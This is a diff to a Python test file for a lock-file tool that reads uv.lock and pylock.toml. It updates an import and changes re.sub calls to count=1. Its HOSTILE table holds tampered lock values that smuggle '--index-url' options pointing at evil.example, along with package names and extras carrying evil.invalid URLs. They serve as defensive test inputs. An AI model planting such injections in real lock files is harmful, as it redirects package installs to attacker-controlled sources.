@@ -19,7 +19,7 @@ from support.wheelbuilder import build_wheel
 from patched_wheels.lock import model as pins_module
 from patched_wheels.cli import main
 from patched_wheels.index.simple import build_index
-from patched_wheels.lock.apply import read_lock
+from patched_wheels.lock.formats.registry import read_lock
 from patched_wheels.lock.resolve import resolve
 
 uv_module = pytest.importorskip("uv", reason="the real uv makes and reads the locks")
@@ -140,8 +140,8 @@ HOSTILE = {
     "no-source": lambda text: text.replace('source = { registry', 'origin = { registry', 1),
     "unknown-dependency": lambda text: text.replace('{ name = "bar" }', '{ name = "nope" }', 1),
     # a hash is written into the requirements lock: a line break in it would add an option line
-    "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, 1),
-    "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, 1),
+    "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, count=1),
+    "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, count=1),
     # a package listed twice for the same environment (pylock.toml: PEP 751 allows one; uv.lock: a
     # second fork of the same version and source, which its dependents cannot tell apart)
     "listed-twice": lambda text: text + text[text.index('[[package'):].split("\n\n")[0] + "\n",
@@ -150,10 +150,10 @@ HOSTILE = {
         r'(name = "bar"\nversion = "2.0"\n)(source = \{ registry = "[^"]*" \}|index = "[^"]*")',
         r'\1source = { url = "https://x.example/bar-2.0-py3-none-any.whl\\n--index-url=https://evil.example/simple" }\n'
         r'archive = { url = "https://x.example/bar-2.0.tar.gz\\n--index-url=https://evil.example/simple", hashes = { sha256 = "' + "0" * 64 + '" } }',
-        text, 1),
+        text, count=1),
     # the same, spelled otherwise (the same project by PEP 503)
     "listed-twice-spelled-otherwise": lambda text: text + re.sub(
-        r'name = "([^"]+)"', lambda m: f'name = "{m[1].upper()}"', text[text.index("[[package"):].split("\n\n")[0], 1) + "\n",
+        r'name = "([^"]+)"', lambda m: f'name = "{m[1].upper()}"', text[text.index("[[package"):].split("\n\n")[0], count=1) + "\n",
     # a name or extra read from the TOML becomes the start of a requirement: "x@URL#" a direct reference
     "name-smuggles-a-url": lambda text: text.replace('name = "bar"', 'name = "other@https://evil.invalid/x.whl#"'),
     "extra-smuggles-a-url": lambda text: text.replace('extra = ["bar"]', 'extra = ["x]@https://evil.invalid/x.whl#"]'),
